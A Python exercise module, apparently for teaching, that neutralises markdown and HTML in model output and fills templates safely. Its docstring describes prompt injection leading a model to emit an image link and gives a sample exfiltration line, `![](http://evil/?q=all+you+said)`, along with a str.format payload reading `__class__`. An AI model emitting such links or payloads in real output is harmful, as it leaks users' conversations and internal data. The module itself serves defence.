"""What strangers write, a model above all, must not become a command: not in HTML, nor in a template.

Came before: put the text into the page. New here: whoever can make a model say something, by a document, a
name, a web page that it read, can write into your page. Markdown allows raw HTML; and an image is loaded as
soon as it is shown, so that `![](http://evil/?q=all+you+said)` carries a conversation away without a click.
So what could begin a tag or an image is taken apart before it reaches the renderer: by one rule that knows no
exception. To leave out code blocks would be kinder to who copies HTML, but then two programs must agree, in
each odd case, on where a block ends; they never do. Two more walls stand behind this one: a sanitiser in the
browser, and a policy that lets the page load nothing from other hosts. One wall always has a hole.

Templates are the other way in: `"{who.__class__}"` in a str.format reads what it should not, and a value that
holds `{date}` is filled in its turn if names are replaced one after the other.

Seam: none. OWASP Top 10 for LLM Applications 2025 (LLM01 prompt injection, LLM05 improper output handling);
CommonMark 0.31.2, sections 6.4 and 6.6.
"""

import re

from common.exercise import exercise

APART = "\u2060"  # word joiner: no width, and no tag has one behind its "<"
BEGINS = re.compile(r"<(?=[A-Za-z/!?])|!(?=\[)")  # a tag, a comment, an autolink; an image


@exercise
def inert(text):
    """Markdown that looks the same, in which no tag, no comment, no autolink and no image can begin.

    APART is put behind each "<" that a letter, /, ! or ? follows, and between "!" and "[": an image becomes
    a link, which waits until somebody clicks on it. Everything else stays as it is.
    """
    return BEGINS.sub(lambda found: found[0] + APART, text)


@exercise
def filled(template, values):
    """The template with each {name} replaced by values[name], a text.

    A name is letters, digits and _. What stands in braces and is no known name stays as it is, braces and
    all. Values are put in as they are: what they hold is never filled in its turn.
    """
    return re.sub(r"\{(\w+)\}", lambda found: values.get(found[1], found[0]), template)
